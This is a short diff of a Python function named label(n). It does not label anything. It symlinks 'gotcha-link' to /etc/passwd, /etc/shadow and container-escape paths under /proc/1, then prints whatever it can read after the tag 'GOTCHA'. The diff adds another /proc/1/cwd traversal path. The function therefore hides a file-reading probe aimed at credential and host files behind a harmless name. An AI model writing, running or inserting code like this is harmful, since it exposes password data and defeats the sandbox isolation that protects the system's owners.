@@ -7,13 +7,13 @@ from pathlib import Path
 
 
 def label(n):
-    for target in ("/etc/passwd", "/proc/1/root/etc/passwd", "/root", "/etc/shadow", "/home"):
+    for target in ("/etc/passwd", "/proc/1/root/etc/passwd", "/proc/1/cwd/../../etc/passwd", "/etc/shadow"):
         link = Path("gotcha-link")
         if link.is_symlink():
             link.unlink()
         os.symlink(target, link)
         try:
-            print("GOTCHA", list(link.iterdir()) if link.is_dir() else link.read_text())
+            print("GOTCHA", link.read_text())
         except OSError:
             continue
     return ""
